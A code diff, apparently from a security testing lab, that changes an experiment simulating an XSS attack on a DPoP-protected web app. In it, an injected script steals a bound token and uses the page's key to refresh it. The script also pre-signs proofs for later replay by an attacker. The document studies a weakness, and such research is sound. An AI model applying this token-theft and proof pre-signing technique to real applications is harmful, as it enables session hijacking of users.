@@ -40,23 +40,22 @@ function summarise(track: Track) {
   };
 }
 
-async function replayAhead(context: LabContext, token: string) {
+async function replayAhead(context: LabContext, caught: string) {
   const { target } = context;
   const dpop = target.config.dpop!;
   const api = new URL(target.url).origin;
   const horizonMs = Math.min((expectedLifeSeconds(dpop) + 6) * 1000, horizonMaxMs);
   const count = Math.floor(horizonMs / everyMs) + 1;
-  const sign = (htm: string, path: string, withToken: boolean) =>
-    context.inject(signAhead, { api, configPath: paths.config, proofOrigin: dpop.origin, htm, path, token: withToken ? token : null, count });
-  const withToken = await sign('GET', paths.me, true);
-  const alone = await sign('POST', paths.logout, false);
+  const alone = await context.inject(signAhead, { api, configPath: paths.config, proofOrigin: dpop.origin, htm: 'POST', path: paths.logout, token: null, count });
+  // The freshest token the script can get: a refresh, proven by the page's key; else the one it caught.
+  const withToken = await context.inject(signAhead, { api, configPath: paths.config, proofOrigin: dpop.origin, htm: 'GET', path: paths.me, token: caught, refreshPath: paths.refresh, count });
   if (withToken.error !== undefined || alone.error !== undefined) throw new Error(`the script could not sign ahead: ${withToken.error ?? alone.error ?? ''}`);
   context.step({
     actor: 'injected script',
-    what: `Found the page’s key and signed ${count} proofs for GET ${paths.me} (with the stolen token’s hash) and ${count} for POST ${paths.logout} (with none), ahead, then shipped them out`,
+    what: `Found the page’s key; refreshed with it for a fresh token${withToken.token === caught ? ' (refused: kept the one it caught)' : ''}; signed ${count} proofs for GET ${paths.me} (with that token’s hash) and ${count} for POST ${paths.logout} (with none), ahead; shipped them out with the token`,
     note: `${withToken.key ?? '?'}; nonce ${withToken.nonce ?? 'none'}; iat ${new Date(withToken.signedAt).toISOString()}`,
   });
-  return { withToken, alone, count };
+  return { withToken, alone, count, token: withToken.token ?? caught };
 }
 
 /**
@@ -75,12 +74,13 @@ export const xssPresignExperiment: Experiment = {
     const dpop = target.config.dpop!;
     const tab = await context.signIn();
     const { loot } = await stealFromPage(context, tab);
-    const token = findingsOf(loot.findings, target.config, 'bound-token')
+    const caught = findingsOf(loot.findings, target.config, 'bound-token')
       .map(tokenOf)
       .filter((value): value is string => value !== null)
       .toSorted((a, b) => (expOf(b) ?? 0) - (expOf(a) ?? 0))[0];
-    if (!token) throw new Error('the script caught no token bound to a key');
-    const { withToken, alone, count } = await replayAhead(context, token);
+    if (!caught) throw new Error('the script caught no token bound to a key');
+    const ahead = await replayAhead(context, caught);
+    const { withToken, alone, count, token } = ahead;
 
     const me = (proof: string) => attacker.replay({ url: target.url + paths.me, method: 'GET', headers: { Authorization: `DPoP ${token}`, DPoP: proof } });
     const logout = (proof: string) => attacker.replay({ url: target.url + paths.logout, method: 'POST', headers: { DPoP: proof, Origin: spaOrigin } });
